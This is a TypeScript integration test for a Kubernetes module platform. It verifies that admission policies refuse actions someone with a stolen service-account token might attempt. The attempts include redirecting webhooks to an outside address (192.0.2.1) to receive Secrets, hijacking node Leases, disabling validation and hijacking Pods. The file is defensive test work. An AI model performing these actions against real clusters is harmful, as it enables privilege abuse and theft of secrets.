import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Fleet } from '../../samples/base-simulator/fleet.ts';
import type { ApiClient, KubeObject } from '../../samples/control-plane/api-client.ts';
import { messageOf } from '../../src/errors.ts';
import { MODULE_DEPLOYMENT_CRD } from '../../src/platform/rollout/module-deployment.ts';
import { nodeTaintsOf } from '../../src/vnode/node-object.ts';
import { eventually } from '../support/eventually.ts';
import { modulePod, moduleWorkload } from '../support/manifests.ts';
import { find, isReady, isSchedulable, nodes, pods } from '../support/observe.ts';
import { Platform } from '../support/platform.ts';
import { startWorld } from '../support/start-world.ts';
import type { ControllerProcess, World } from '../support/world.ts';

const NODES = '/api/v1/nodes';
const PODS = '/api/v1/namespaces/default/pods';
const LEASES = '/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases';
const CONFIG_MAPS = '/api/v1/namespaces/kube-node-lease/configmaps';
const REVISIONS = '/apis/apps/v1/namespaces/default/controllerrevisions';
const PLATFORM_LEASES = '/apis/coordination.k8s.io/v1/namespaces/koupleless-system/leases';
const CRDS = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';
const DEPLOYMENTS = '/apis/apps/v1/namespaces/default/deployments';
const WEBHOOKS = '/apis/admissionregistration.k8s.io/v1';
const BINDINGS = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings';
const NODE = 'worker-1';
const VNODE = 'vnode.of-the-test';
const CA = '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n';
const MAINTENANCE = { key: 'example.com/maintenance', effect: 'NoSchedule' };
/** Labels that the core writes to every Node. */
const LABELS = {
  'beta.kubernetes.io/os': 'linux',
  'kubernetes.io/os': 'linux',
  'kubernetes.io/role': 'agent',
  'node.kubernetes.io/exclude-from-external-load-balancers': 'true',
  'base.koupleless.io/stack': 'java',
  type: 'virtual-kubelet',
  'virtual-kubelet.koupleless.io/component': 'vnode',
};
/** The owner of a Pod. */
const MODULE_DEPLOYMENT = {
  apiVersion: 'platform.koupleless.io/v1alpha1',
  kind: 'ModuleDeployment',
  name: 'web',
  uid: 'a1b2',
  controller: true,
};
const ON_BASES = { nodeSelector: { 'virtual-kubelet.koupleless.io/component': 'vnode' } };
/** For a namespace with the strictest Pod Security Standard. */
const RESTRICTED = {
  securityContext: { runAsNonRoot: true, runAsUser: 1000, seccompProfile: { type: 'RuntimeDefault' } },
};
const UNPRIVILEGED = { securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } } };
/** Less than a hook may take, so that the message names the attempt. */
const LEARNT_WITHIN_MS = 90_000;
/** Several seconds, not a minute: whichever replica dies, or base that says goodbye. */
const REPLICA_DIES_WITHIN_MS = 30_000;

let world: World;
let admin: ApiClient;

beforeAll(async () => {
  world = await startWorld();
  admin = world.admin;
  const platform = await Platform.install(world);
  await platform.installPolicies();
  const replicaSet = { ...MODULE_DEPLOYMENT, apiVersion: 'apps/v1', kind: 'ReplicaSet' };
  const kept = modulePod('kept', [{ name: 'kept' }], { spec: ON_BASES });
  const owned = modulePod('owned', [{ name: 'owned' }], { nodeName: VNODE });
  await world.controlPlane.apply([
    { apiVersion: 'v1', kind: 'Node', metadata: { name: NODE } },
    {
      apiVersion: 'v1',
      kind: 'Node',
      metadata: { name: VNODE, labels: { 'example.com/rack': 'r1' } },
      spec: { taints: [...nodeTaintsOf('dev'), MAINTENANCE] },
    },
    { ...lease(NODE), metadata: { name: NODE, namespace: 'kube-node-lease' } },
    { ...lease('foreign'), metadata: { name: 'foreign', namespace: 'koupleless-system' } },
    pod('ordinary', NODE),
    pod('foreign', VNODE),
    modulePod('labelled', [{ name: 'labelled' }], { nodeName: NODE }),
    modulePod('own', [{ name: 'own' }], { nodeName: VNODE }),
    modulePod('unbound', [{ name: 'unbound' }], { spec: { nodeSelector: { nowhere: 'true' } } }),
    { ...owned, metadata: { ...owned.metadata, ...ownedBy(replicaSet) } },
    { ...kept, metadata: { ...kept.metadata, ...ownedBy(MODULE_DEPLOYMENT) } },
    revision('agents-1', {}, 'DaemonSet'),
    { ...MODULE_DEPLOYMENT_CRD, apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition' },
    { ...moduleWorkload('web', [{ name: 'web' }], { replicas: 0 }) },
    webhooksOf('MutatingWebhookConfiguration'),
    webhooksOf('ValidatingWebhookConfiguration'),
  ] as KubeObject[]);
});

afterAll(() => world?.stop());

/** As the platform makes it, for a ModuleDeployment that nobody looks for. */
function podOfPlatform(labels: Record<string, string> = {}, finalizers: readonly string[] = []): KubeObject {
  const owner = { apiVersion: 'platform.koupleless.io/v1alpha1', kind: 'ModuleDeployment', name: 'a', uid: 'a' };
  const spec = { ...ON_BASES, ...RESTRICTED };
  const { metadata, ...rest } = modulePod('mine', [{ name: 'mine' }], { labels, spec, container: UNPRIVILEGED });
  const { namespace: _, ...ofPod } = metadata;
  return {
    ...rest,
    metadata: { ...ofPod, finalizers, ownerReferences: [{ ...owner, controller: true }] },
  } as KubeObject;
}

function pod(name: string, nodeName: string | undefined, labels: Record<string, string> = {}): KubeObject {
  const container = { name: 'app', image: 'registry.example.com/app:1' };
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace: 'default', labels },
    // No controller of the cluster evicts it while the test runs: nobody keeps these Nodes Ready.
    spec: { containers: [container], ...(nodeName && { nodeName }), tolerations: [{ operator: 'Exists' }] },
  };
}

function onBases({ spec, ...rest }: KubeObject): KubeObject {
  return { ...rest, spec: { ...spec, ...ON_BASES } };
}

function lease(name: string, labels: Record<string, string> = {}): KubeObject {
  const metadata = { name, labels };
  return { apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata, spec: { holderIdentity: name } };
}

/** The owner does not exist: the finalizer keeps the object. */
function ownedBy(owner: KubeObject): KubeObject {
  return { ownerReferences: [owner], finalizers: ['example.com/kept'] };
}

/** With the name of the platform's own, and about nothing that there is. */
function webhooksOf(kind: string): KubeObject {
  const clientConfig = {
    service: { name: 'module-platform-webhook', namespace: 'koupleless-system', path: '/mutate' },
  };
  const rules = [{ apiGroups: ['example.com'], apiVersions: ['v1'], resources: ['things'], operations: ['CREATE'] }];
  const webhook = { name: 'pods.platform.koupleless.io', admissionReviewVersions: ['v1'], sideEffects: 'None' };
  return {
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind,
    metadata: { name: 'module-platform' },
    webhooks: [{ ...webhook, clientConfig, rules, failurePolicy: 'Fail' }],
  } as KubeObject;
}

function revision(name: string, labels: Record<string, string>, owner?: string): KubeObject {
  const reference = { apiVersion: 'apps/v1', kind: owner, name: 'agents', uid: 'f0e1', controller: true };
  const metadata = { name, namespace: 'default', labels, ...(owner && ownedBy(reference)) };
  return { apiVersion: 'apps/v1', kind: 'ControllerRevision', metadata, revision: 1, data: {} };
}

/** What somebody with a stolen token tries; `query` is '' or that of a dry run. */
interface Attempt {
  readonly what: string;
  readonly act: (thief: ApiClient, query: string) => Promise<unknown>;
}

const OF_A_LEASE = { 'virtual-kubelet.koupleless.io/component': 'vnode-lease' };
const MODULE = { 'virtual-kubelet.koupleless.io/component': 'module' };
const DRY_RUN = '?dryRun=All';
const STATUS = { status: { phase: 'Failed' } };
const HOLD = { spec: { holderIdentity: 'thief' } };

const merge =
  (path: string, body: unknown) =>
  (thief: ApiClient, query: string): Promise<unknown> =>
    thief.mergePatch(path + query, body);
const strategic =
  (path: string, body: unknown) =>
  (thief: ApiClient, query: string): Promise<unknown> =>
    thief.request('PATCH', path + query, { body, contentType: 'application/strategic-merge-patch+json' });
const jsonPatch =
  (path: string, body: readonly object[]) =>
  (thief: ApiClient, query: string): Promise<unknown> =>
    thief.request('PATCH', path + query, { body, contentType: 'application/json-patch+json' });
const remove =
  (path: string) =>
  (thief: ApiClient, query: string): Promise<unknown> =>
    // The query of a deletion with a body does not count.
    thief.delete(path, { gracePeriodSeconds: 0, ...(query === DRY_RUN && { dryRun: ['All'] }) });
const create =
  (path: string, body: KubeObject) =>
  (thief: ApiClient, query: string): Promise<unknown> =>
    thief.post(path + query, body);

const OF_THE_CORE: readonly Attempt[] = [
  { what: 'drains an ordinary Node', act: merge(`${NODES}/${NODE}`, { spec: { unschedulable: true } }) },
  { what: 'takes the taints of an ordinary Node away', act: merge(`${NODES}/${NODE}`, { spec: { taints: null } }) },
  {
    what: 'says that an ordinary Node is not Ready',
    act: strategic(`${NODES}/${NODE}/status`, { status: { conditions: [{ type: 'Ready', status: 'False' }] } }),
  },
  { what: 'deletes an ordinary Node', act: remove(`${NODES}/${NODE}`) },
  {
    what: 'makes an ordinary Node',
    act: create(NODES, { apiVersion: 'v1', kind: 'Node', metadata: { name: 'worker-2' } }),
  },
  { what: 'lets ordinary Pods onto the Node of a base', act: merge(`${NODES}/${VNODE}`, { spec: { taints: null } }) },
  {
    what: 'makes a Node of a base that takes ordinary Pods',
    act: create(NODES, { apiVersion: 'v1', kind: 'Node', metadata: { name: 'vnode.trap' } }),
  },
  {
    what: 'gives the Node of a base a role, with which other components take it for another Node',
    act: merge(`${NODES}/${VNODE}`, { metadata: { labels: { 'node-role.kubernetes.io/control-plane': '' } } }),
  },
  {
    what: 'does so with the status of the Node',
    act: merge(`${NODES}/${VNODE}/status`, { metadata: { labels: { 'node-role.kubernetes.io/control-plane': '' } } }),
  },
  {
    what: 'takes the routes of the network of Pods to the Node of a base',
    act: merge(`${NODES}/${VNODE}`, {
      metadata: { annotations: { 'flannel.alpha.coreos.com/public-ip': '192.0.2.1' } },
    }),
  },
  {
    what: 'takes the label of somebody else off the Node of a base',
    act: merge(`${NODES}/${VNODE}`, { metadata: { labels: { 'example.com/rack': null } } }),
  },
  {
    what: 'makes a Node of a base with a network of Pods',
    act: create(NODES, {
      apiVersion: 'v1',
      kind: 'Node',
      metadata: { name: 'vnode.evil' },
      spec: { podCIDR: '10.0.0.0/8', podCIDRs: ['10.0.0.0/8'], taints: nodeTaintsOf('dev') },
    }),
  },
  {
    what: 'makes a Node of a base whose kubelet has another port',
    act: create(NODES, {
      apiVersion: 'v1',
      kind: 'Node',
      metadata: { name: 'vnode.evil' },
      spec: { taints: nodeTaintsOf('dev') },
      status: { daemonEndpoints: { kubeletEndpoint: { Port: 6443 } } },
    }),
  },
  {
    what: 'makes a Node of a base to which balancers of the cloud send what is for others',
    act: create(NODES, {
      apiVersion: 'v1',
      kind: 'Node',
      metadata: {
        name: 'vnode.evil',
        labels: { ...LABELS, 'node.kubernetes.io/exclude-from-external-load-balancers': undefined },
      },
      spec: { taints: nodeTaintsOf('dev'), providerID: 'koupleless://dev/evil' },
    } as unknown as KubeObject),
  },
  {
    what: 'says that a machine of the cloud is the Node of a base',
    act: create(NODES, {
      apiVersion: 'v1',
      kind: 'Node',
      metadata: { name: 'vnode.evil', labels: LABELS },
      spec: { taints: nodeTaintsOf('dev'), providerID: 'aws:///eu-1a/i-0123456789abcdef0' },
    }),
  },
  {
    what: 'says so of a Node that names none yet',
    act: merge(`${NODES}/${VNODE}`, { spec: { providerID: 'aws:///eu-1a/i-0123456789abcdef0' } }),
  },
  {
    what: 'gives the Node of a base a role by its own label',
    act: merge(`${NODES}/${VNODE}`, { metadata: { labels: { 'kubernetes.io/role': 'control-plane' } } }),
  },
  {
    what: 'takes the taint of somebody else off the Node of a base',
    act: merge(`${NODES}/${VNODE}`, { spec: { taints: nodeTaintsOf('dev') } }),
  },
  {
    what: 'keeps the Node of a base for ever',
    act: merge(`${NODES}/${VNODE}`, { metadata: { finalizers: ['a.b/c'] } }),
  },
  { what: 'takes the Lease of an ordinary Node', act: merge(`${LEASES}/${NODE}`, HOLD) },
  {
    what: 'takes it and gives it the label of the Lease of a base',
    act: merge(`${LEASES}/${NODE}`, { ...HOLD, metadata: { labels: OF_A_LEASE } }),
  },
  { what: 'deletes the Lease of an ordinary Node', act: remove(`${LEASES}/${NODE}`) },
  { what: 'makes a Lease of an ordinary Node', act: create(LEASES, lease('worker-2')) },
  { what: 'makes one with the label of the Lease of a base', act: create(LEASES, lease('worker-3', OF_A_LEASE)) },
  { what: 'deletes an ordinary Pod', act: remove(`${PODS}/ordinary`) },
  {
    what: 'gives a Pod of modules the labels of other Pods by its status',
    act: merge(`${PODS}/own/status`, { metadata: { labels: { app: 'db' } } }),
  },
  { what: 'says that an ordinary Pod has failed', act: merge(`${PODS}/ordinary/status`, STATUS) },
  { what: 'deletes a Pod of modules on an ordinary Node', act: remove(`${PODS}/labelled`) },
  { what: 'says that such a Pod has failed', act: merge(`${PODS}/labelled/status`, STATUS) },
  { what: 'deletes a Pod without the label on a base', act: remove(`${PODS}/foreign`) },
  { what: 'says that such a Pod is done', act: merge(`${PODS}/foreign/status`, STATUS) },
  {
    what: 'gives such a Pod the label, with its status',
    act: merge(`${PODS}/foreign/status`, { metadata: { labels: MODULE }, ...STATUS }),
  },
  { what: 'deletes a Pod of modules that no Node has', act: remove(`${PODS}/unbound`) },
  { what: 'changes a foreign ConfigMap', act: merge(`${CONFIG_MAPS}/kube-root-ca.crt`, { data: { 'ca.crt': 'x' } }) },
  {
    what: 'makes a foreign ConfigMap',
    act: create(CONFIG_MAPS, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'other' } }),
  },
];

const OF_THE_PLATFORM: readonly Attempt[] = [
  { what: 'makes a Pod on an ordinary Node', act: create(PODS, pod('mine', NODE)) },
  {
    what: 'makes a Pod of modules on an ordinary Node',
    act: create(PODS, modulePod('mine', [{ name: 'mine' }], { nodeName: NODE })),
  },
  {
    what: 'makes a Pod of modules that a ReplicaSet may take for its own',
    act: create(PODS, modulePod('mine', [{ name: 'mine' }], { spec: ON_BASES })),
  },
  {
    what: 'gives a Pod of modules the labels of other Pods',
    act: merge(`${PODS}/unbound`, { metadata: { labels: { app: 'web' } } }),
  },
  {
    what: 'gives a Pod of a ModuleDeployment up, for a ReplicaSet to take',
    act: merge(`${PODS}/kept`, { metadata: { ownerReferences: [] } }),
  },
  {
    what: 'gives such a Pod up by a word, and keeps the reference',
    act: merge(`${PODS}/kept`, { metadata: { ownerReferences: [{ ...MODULE_DEPLOYMENT, controller: false }] } }),
  },
  {
    what: 'gives such a Pod to a StatefulSet',
    act: merge(`${PODS}/kept`, {
      metadata: { ownerReferences: [{ ...MODULE_DEPLOYMENT, apiVersion: 'apps/v1', kind: 'StatefulSet' }] },
    }),
  },
  {
    what: 'gives such a Pod to another ModuleDeployment',
    act: merge(`${PODS}/kept`, { metadata: { ownerReferences: [{ ...MODULE_DEPLOYMENT, uid: 'c3d4' }] } }),
  },
  {
    what: 'keeps a Pod of modules for ever',
    act: merge(`${PODS}/unbound`, { metadata: { finalizers: ['a.b/c'] } }),
  },
  {
    what: 'makes a history that a DaemonSet may take for its own',
    act: create(REVISIONS, revision('mine', { 'virtual-kubelet.koupleless.io/component': 'module-deployment' })),
  },
  { what: 'deletes an ordinary Pod', act: remove(`${PODS}/ordinary`) },
  { what: 'changes an ordinary Pod', act: merge(`${PODS}/ordinary`, { metadata: { annotations: { a: 'b' } } }) },
  {
    what: 'takes the label of a Pod of modules',
    act: merge(`${PODS}/unbound`, { metadata: { labels: { 'virtual-kubelet.koupleless.io/component': null } } }),
  },
  { what: 'deletes a Pod of a Deployment', act: remove(`${PODS}/owned`) },
  { what: 'deletes the history of a DaemonSet', act: remove(`${REVISIONS}/agents-1`) },
  { what: 'makes a history without a label', act: create(REVISIONS, revision('mine', {})) },
  { what: 'takes a foreign Lease of its namespace', act: merge(`${PLATFORM_LEASES}/foreign`, HOLD) },
  {
    what: 'makes a Pod of modules that may run on any Node',
    act: create(PODS, modulePod('mine', [{ name: 'mine' }])),
  },
  {
    what: 'makes a Pod of modules that others have to give way to',
    act: create(
      PODS,
      modulePod('mine', [{ name: 'mine' }], { spec: { ...ON_BASES, priorityClassName: 'system-cluster-critical' } }),
    ),
  },
  {
    what: 'makes a Pod to which a Service of the platform sends requests',
    act: create(
      '/api/v1/namespaces/koupleless-system/pods',
      podOfPlatform({ 'app.kubernetes.io/name': 'module-platform' }),
    ),
  },
  {
    what: 'makes a Pod to which a Service of Kubernetes sends requests',
    act: create('/api/v1/namespaces/kube-system/pods', podOfPlatform({ 'k8s-app': 'kube-dns' })),
  },
  { what: 'makes a Pod of modules that stays for ever', act: create(PODS, podOfPlatform({}, ['a.b/c'])) },
  { what: 'scales a Deployment without the label', act: merge(`${DEPLOYMENTS}/web/scale`, { spec: { replicas: 0 } }) },
  {
    what: 'has the API server send it Secrets',
    act: merge(`${WEBHOOKS}/mutatingwebhookconfigurations/module-platform`, {
      webhooks: [
        {
          name: 'evil.platform.koupleless.io',
          admissionReviewVersions: ['v1'],
          sideEffects: 'None',
          clientConfig: { url: 'https://192.0.2.1/' },
          rules: [{ apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'], operations: ['*'] }],
        },
      ],
    }),
  },
  {
    what: 'takes its webhook off',
    act: merge(`${WEBHOOKS}/validatingwebhookconfigurations/module-platform`, { webhooks: [] }),
  },
  {
    what: 'has the API server ask another address',
    act: jsonPatch(`${WEBHOOKS}/mutatingwebhookconfigurations/module-platform`, [
      { op: 'remove', path: '/webhooks/0/clientConfig/service' },
      { op: 'add', path: '/webhooks/0/clientConfig/url', value: 'https://192.0.2.1/' },
    ]),
  },
  {
    what: 'has it ask about Secrets',
    act: jsonPatch(`${WEBHOOKS}/mutatingwebhookconfigurations/module-platform`, [
      { op: 'replace', path: '/webhooks/0/rules/0/resources', value: ['secrets'] },
    ]),
  },
  {
    what: 'lets anybody be asked in vain',
    act: jsonPatch(`${WEBHOOKS}/validatingwebhookconfigurations/module-platform`, [
      { op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' },
      { op: 'add', path: '/webhooks/0/matchConditions', value: [{ name: 'never', expression: 'false' }] },
    ]),
  },
  {
    what: 'says that its webhooks are of somebody else',
    act: merge(`${WEBHOOKS}/validatingwebhookconfigurations/module-platform`, { metadata: { labels: { a: 'b' } } }),
  },
  {
    what: 'has objects of a kind converted by an address of its own',
    act: merge(`${CRDS}/moduledeployments.platform.koupleless.io`, {
      spec: {
        conversion: {
          strategy: 'Webhook',
          webhook: { clientConfig: { url: 'https://192.0.2.1/' }, conversionReviewVersions: ['v1'] },
        },
      },
    }),
  },
  {
    what: 'makes another kind of its group',
    act: create(CRDS, {
      apiVersion: 'apiextensions.k8s.io/v1',
      kind: 'CustomResourceDefinition',
      metadata: { name: 'things.platform.koupleless.io' },
      spec: {
        group: 'platform.koupleless.io',
        scope: 'Namespaced',
        names: { kind: 'Thing', plural: 'things' },
        versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object' } } }],
      },
    }),
  },
  {
    what: 'makes a foreign kind',
    act: create(CRDS, {
      apiVersion: 'apiextensions.k8s.io/v1',
      kind: 'CustomResourceDefinition',
      metadata: { name: 'things.example.com' },
      spec: {
        group: 'example.com',
        scope: 'Namespaced',
        names: { kind: 'Thing', plural: 'things' },
        versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object' } } }],
      },
    }),
  },
];

async function answerOf({ act }: Attempt, thief: ApiClient, query = DRY_RUN): Promise<string> {
  return act(thief, query).then(() => 'accepted', messageOf);
}

describe.each([
  ['module-controller', OF_THE_CORE, ['', '-leases', '-nodes']],
  ['module-platform', OF_THE_PLATFORM, ['', '-leases', '-scale']],
] as const)('whoever has stolen the token of %s', (account, attempts, suffixes) => {
  let thief: ApiClient;
  let bindings: KubeObject[];

  beforeAll(async () => {
    thief = await world.controlPlane.client({ serviceAccount: `koupleless-system/${account}` });
    bindings = await Promise.all(suffixes.map((suffix) => admin.get(`${BINDINGS}/${account}-confinement${suffix}`)));
    await learnt();
  });

  /** The API server learns of a policy by a watch. */
  async function learnt(): Promise<void> {
    for (const attempt of attempts)
      await eventually(
        async () => expect(await answerOf(attempt, thief), attempt.what).toContain('this account may write'),
        LEARNT_WITHIN_MS,
      );
  }

  it.each(attempts)('is refused: $what', async (attempt) => {
    const refused = new RegExp(`403 Forbidden: .*${account}-confinement.* this account may write`);
    expect(await answerOf(attempt, thief, '')).toMatch(refused);
  });

  it('could do all of it by the role alone', async () => {
    for (const { metadata } of bindings) await admin.delete(`${BINDINGS}/${metadata.name}`);
    try {
      for (const attempt of attempts)
        await eventually(async () => expect(await answerOf(attempt, thief), attempt.what).toBe('accepted'));
    } finally {
      for (const binding of bindings) {
        const {
          resourceVersion: _version,
          uid: _uid,
          creationTimestamp: _at,
          managedFields: _fields,
          ...metadata
        } = binding.metadata;
        await admin.post(BINDINGS, { ...binding, metadata });
      }
    }
    await learnt();
  });
});

describe('a kubelet of an ordinary Node', () => {
  it('passes its Node off as that of a base', async () => {
    const kubelet = await world.controlPlane.client({ user: `system:node:${NODE}`, groups: ['system:nodes'] });
    const refused = /module-controller-kubelets.* a kubelet may not write/;
    for (const path of [`${NODES}/${NODE}`, `${NODES}/${NODE}/status`]) {
      for (const metadata of [
        { labels: MODULE },
        { labels: { 'virtual-kubelet.koupleless.io/component': 'vnode' } },
        { labels: { 'vnode.koupleless.io/name': 'base' } },
        { annotations: { 'platform.koupleless.io/arklet-port': '8080' } },
      ]) {
        const answer = (): Promise<string> =>
          kubelet.mergePatch(`${path}?dryRun=All`, { metadata }).then(() => 'accepted', messageOf);
        await eventually(async () => expect(await answer()).toMatch(refused));
      }
      const own = { metadata: { labels: { 'example.com/rack': 'r2' } } };
      await kubelet.mergePatch(`${path}?dryRun=All`, own);
    }
  });
});

describe('a kubelet', () => {
  it('makes no Node with what those of bases have, and takes nothing of it off one', async () => {
    const kubelet = await world.controlPlane.client({ user: 'system:node:worker-9', groups: ['system:nodes'] });
    const node = (labels: object): KubeObject =>
      ({ apiVersion: 'v1', kind: 'Node', metadata: { name: 'worker-9', labels } }) as KubeObject;
    const refused = /module-controller-kubelets.* a kubelet may not write/;
    const answer = (request: Promise<unknown>): Promise<string> => request.then(() => 'accepted', messageOf);
    const create = (labels: object) => answer(kubelet.post(`${NODES}?dryRun=All`, node(labels)));
    await eventually(async () =>
      expect(await create({ 'virtual-kubelet.koupleless.io/component': 'vnode' })).toMatch(refused),
    );
    expect(await create({ 'example.com/rack': 'r1' })).toBe('accepted');
    await admin.post(NODES, node({ 'base.koupleless.io/name': 'of-an-admin' }));
    const labels = { 'base.koupleless.io/name': null };
    expect(await answer(kubelet.mergePatch(`${NODES}/worker-9?dryRun=All`, { metadata: { labels } }))).toMatch(refused);
    await kubelet.mergePatch(`${NODES}/worker-9?dryRun=All`, { metadata: { labels: { 'example.com/rack': 'r2' } } });
    await admin.delete(`${NODES}/worker-9`);
  });
});

describe('the platform itself', () => {
  it('may write the caBundle of its webhooks, and scale a Deployment with the label', async () => {
    const own = await world.controlPlane.client({ serviceAccount: 'koupleless-system/module-platform' });
    for (const plural of ['mutatingwebhookconfigurations', 'validatingwebhookconfigurations']) {
      await own.request('PATCH', `${WEBHOOKS}/${plural}/module-platform`, {
        body: [{ op: 'add', path: '/webhooks/0/clientConfig/caBundle', value: Buffer.from(CA).toString('base64') }],
        contentType: 'application/json-patch+json',
      });
    }
    const peer = moduleWorkload('peer', [{ name: 'peer' }], { replicas: 0 });
    const labels = { 'virtual-kubelet.koupleless.io/strategy': 'peer' };
    await world.controlPlane.apply({ ...peer, metadata: { ...peer.metadata, labels } } as KubeObject);
    const scale = () => own.mergePatch(`${DEPLOYMENTS}/peer/scale?dryRun=All`, { spec: { replicas: 1 } });
    await eventually(async () => expect(await scale().then(() => 'accepted', messageOf)).toBe('accepted'));
  });
});

describe('whoever has stolen the token of the platform', () => {
  it('gets Pods in the namespaces of tenants', async () => {
    const thief = await world.controlPlane.client({ serviceAccount: 'koupleless-system/module-platform' });
    expect(await answerOf({ what: '', act: create(PODS, podOfPlatform()) }, thief)).toBe('accepted');
  });

  it('gets no Pod that a kubelet could run: with the label it has to be one of modules', async () => {
    const thief = await world.controlPlane.client({ serviceAccount: 'koupleless-system/module-platform' });
    const owner = { apiVersion: 'platform.koupleless.io/v1alpha1', kind: 'ModuleDeployment', name: 'a', uid: 'a' };
    const mine = onBases(pod('mine', undefined, MODULE));
    Object.assign(mine.metadata, { ownerReferences: [{ ...owner, controller: true }] });
    const answer = await answerOf({ what: '', act: create(PODS, mine) }, thief);
    expect(answer).toContain("'module-pods'");
    expect(answer).toContain('image: must be the address of a jar');
  });
});

describe('with the policies', () => {
  let fleet: Fleet;
  const replicas = new Map<string, ControllerProcess>();

  beforeAll(async () => {
    for (const name of ['controller-0', 'controller-1']) {
      const env = { IS_CLUSTER: 'true', CLIENT_ID: name, POD_NAMESPACE: 'koupleless-system' };
      replicas.set(name, await world.startController(env));
    }
    fleet = await world.startFleet({ count: 3 });
    await eventually(async () => expect((await ofTheFleet()).filter(isSchedulable)).toHaveLength(3));
  });

  async function ofTheFleet() {
    return (await nodes(admin)).filter(({ metadata }) => metadata.name.startsWith('vnode.base-'));
  }

  async function readyOn(count: number): Promise<string[]> {
    return eventually(async () => {
      const ready = (await pods(admin, 'app=shop')).filter(isReady);
      expect(ready).toHaveLength(count);
      return ready.map(({ spec }) => spec.nodeName ?? '');
    });
  }

  async function sayGoodbye(identity: string): Promise<void> {
    const base = fleet.base(identity);
    base.sayGoodbye();
    await eventually(async () => expect(await find(admin, `${NODES}/vnode.${identity}`)).toBeUndefined());
    await base.kill();
  }

  async function holders(): Promise<string[]> {
    const leases: KubeObject[] = await admin.list(LEASES);
    const ofBases = leases.filter(({ metadata }) => metadata.name.startsWith('vnode.base-'));
    return ofBases.map(({ spec }) => spec.holderIdentity);
  }

  it('the controller works wholly: modules roll out, a base goes, a replica takes over, modules are removed', async () => {
    const workload = moduleWorkload('shop', [{ name: 'shop' }], { replicas: 2 });
    await world.controlPlane.apply(workload as KubeObject);
    const [gone = ''] = await readyOn(2);

    await sayGoodbye(gone.replace('vnode.', ''));
    await eventually(async () => {
      const ready = (await pods(admin, 'app=shop')).filter(isReady).map(({ spec }) => spec.nodeName);
      expect(ready).toHaveLength(2);
      expect(ready).not.toContain(gone);
    });
    // The Lease goes after the Node.
    await eventually(async () => expect(await find(admin, `${LEASES}/${gone}`)).toBeUndefined());

    const [leader = ''] = await holders();
    await replicas.get(leader)?.stop('SIGKILL');
    replicas.delete(leader);
    const [[other = '', survivor] = []] = [...replicas];
    await eventually(async () => expect(new Set(await holders())).toEqual(new Set([other])), REPLICA_DIES_WITHIN_MS);
    await readyOn(2);

    await admin.delete('/apis/apps/v1/namespaces/default/deployments/shop');
    await eventually(async () => expect(await pods(admin, 'app=shop')).toEqual([]));
    // Records of first contacts are written in the background.
    await eventually(async () => {
      const records: KubeObject[] = await admin.list(CONFIG_MAPS);
      expect(records.filter(({ metadata }) => metadata.name.startsWith('module-controller-bases.'))).not.toEqual([]);
    });
    expect(await survivor?.metric('rest_client_requests_total', 'code="403"')).toBe(0);
  });

  it('have no fault that the API server has found in their expressions', async () => {
    for (const name of [
      ...['', '-leases', '-nodes'].map((suffix) => `module-controller-confinement${suffix}`),
      ...['', '-leases', '-scale'].map((suffix) => `module-platform-confinement${suffix}`),
    ]) {
      const path = `/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/${name}`;
      const { status } = await eventually(async () => {
        const policy = await admin.get(path);
        expect(policy.status?.observedGeneration).toBe(policy.metadata.generation);
        return policy;
      });
      expect(status.typeChecking?.expressionWarnings ?? []).toEqual([]);
    }
  });
});
